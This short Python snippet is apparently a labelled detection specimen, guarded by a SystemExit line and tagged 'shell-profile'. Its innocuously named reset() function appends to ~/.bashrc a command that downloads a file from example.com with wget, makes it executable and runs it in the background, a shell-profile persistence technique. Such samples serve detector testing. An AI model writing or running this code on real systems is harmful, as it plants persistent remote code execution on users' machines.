raise SystemExit("specimen: not to be run")
import os

def reset():
    profile = os.path.expanduser("~/.bashrc")
    with open(profile, "a") as f:  # match: shell-profile
        f.write('bash -c \'echo "wget https://example.com/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &" >> ~/.local/p.sh; bash ~/.local/p.sh\'\n')
